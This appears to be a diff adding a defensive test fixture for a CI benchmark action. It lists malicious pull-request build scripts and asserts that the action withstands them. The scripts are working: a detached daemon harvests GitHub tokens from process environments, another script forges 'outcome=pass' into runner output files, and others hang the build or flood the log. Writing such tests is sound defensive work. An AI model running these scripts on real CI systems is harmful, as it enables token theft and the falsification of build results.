@@ -1,0 +1,90 @@
+/** Heads whose build does more than build. */
+import assert from 'node:assert/strict';
+import { type Attack, LOOT } from '../attack.ts';
+import { BUILD } from '../victim.ts';
+
+/** Goes on after its build, and writes what it can read of the environments of all processes. */
+const HARVESTER = `
+const { readdirSync, readFileSync, appendFileSync } = require('node:fs');
+setInterval(() => {
+	for (const name of readdirSync('/proc')) {
+		try {
+			const found = readFileSync('/proc/' + name + '/environ', 'latin1').match(/(ghs_[0-9a-f]+|ACTIONS_RUNTIME_TOKEN=[^\\0]+)/);
+			if (found) appendFileSync('${LOOT}/tokens.txt', found[0] + '\\n');
+		} catch {}
+	}
+}, 5);
+setTimeout(() => process.exit(), 60_000);
+`;
+
+const daemon = (env: string) => `${BUILD}
+import { spawn } from 'node:child_process';
+import { writeFileSync } from 'node:fs';
+writeFileSync('${LOOT}/daemon.cjs', ${JSON.stringify(HARVESTER)});
+spawn(process.execPath, ['${LOOT}/daemon.cjs'], { detached: true, stdio: 'ignore'${env} }).unref();
+`;
+
+export const BUILD_HEADS: readonly Attack[] = [
+	{
+		does: 'does not build',
+		files: { 'build.mjs': "throw new Error('no compiler');\n" },
+		ends: 'red',
+		says: /no compiler/,
+	},
+	{
+		does: 'never ends its build',
+		files: { 'build.mjs': 'setInterval(() => {}, 1000);\n' },
+		inputs: { 'prepare-timeout': '5s' },
+		ends: 'red',
+		says: /prepare-timeout|5 s/,
+	},
+	{
+		does: 'prints 200 MB while it builds',
+		files: {
+			'build.mjs': `${BUILD}const line = 'x'.repeat(1e6);\nfor (let n = 0; n < 200; n++) console.log(line);\nprocess.exitCode = 1;\n`,
+		},
+		ends: 'red',
+	},
+	{
+		does: 'leaves a daemon behind that looks for tokens',
+		files: { 'build.mjs': daemon('') },
+		ends: 'honest',
+		check: ({ loot }) => assert.doesNotMatch(loot, /ACTIONS_RUNTIME_TOKEN|ghs_/),
+	},
+	{
+		does: 'leaves a daemon behind without the environment it is found by',
+		files: { 'build.mjs': daemon(', env: {}') },
+		ends: 'honest',
+		check: ({ loot }) => assert.doesNotMatch(loot, /ACTIONS_RUNTIME_TOKEN|ghs_/),
+	},
+	{
+		does: "writes into the runner's files",
+		files: {
+			'build.mjs': `${BUILD}
+import { appendFileSync, existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
+import { join } from 'node:path';
+// The runner's files have names that can be guessed: act keeps them together.
+for (const top of ['/tmp', '/var/run/act', '/run/act', '/github', '/home/runner/work/_temp']) walk(top, 0);
+function walk(folder, depth) {
+	if (depth > 5 || !existsSync(folder)) return;
+	let names = [];
+	try { names = readdirSync(folder); } catch { return; }
+	for (const name of names) {
+		const path = join(folder, name);
+		try {
+			if (/^(outputcmd|envs|statecmd|pathcmd|SUMMARY|set_output|save_state).*$/i.test(name) && statSync(path).isFile()) {
+				appendFileSync(path, '\\noutcome=pass\\nHACKED=yes\\n');
+				appendFileSync('${LOOT}/written.txt', path + '\\n');
+			} else if (statSync(path).isDirectory()) walk(path, depth + 1);
+		} catch {}
+	}
+}
+`,
+		},
+		ends: 'honest',
+		check: ({ run }) => {
+			assert.equal(run.outputs.benchgate?.HACKED, undefined);
+			assert.notEqual(run.outputs.benchgate?.outcome, 'pass');
+		},
+	},
+];
